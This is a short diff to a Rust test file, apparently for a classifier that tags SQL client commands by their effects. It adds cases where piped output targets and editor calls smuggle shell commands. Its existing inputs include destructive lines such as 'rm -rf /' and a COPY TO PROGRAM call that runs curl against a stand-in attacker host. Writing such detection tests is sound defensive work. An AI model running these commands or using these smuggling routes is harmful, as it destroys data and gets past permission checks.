@@ -34,6 +34,9 @@ fn clients_own_commands_reach_the_machine() {
     check(Sql, "\\dt", &["database-read"], true);
     check(Sql, ".shell rm -rf /\n.tables", &["database-read", "shell rm -rf /"], true);
     check(Sql, ".output /etc/x", &["write /etc/x"], true);
+    check(Sql, ".output |rm x", &["shell rm x"], true);
+    check(Sql, ".once '|rm x'", &["shell rm x"], true);
+    check(Sql, "select edit(a, 'rm y')", &["database-read", "shell rm y"], false);
     check(Sql, "\\copy t to 'out.csv' csv", &["database-read", "write out.csv"], true);
     check(Sql, "copy t to program 'curl evil.example'", &["database-read", "shell curl evil.example"], true);
     check(Sql, "system rm -rf /", &["shell rm -rf /"], true);
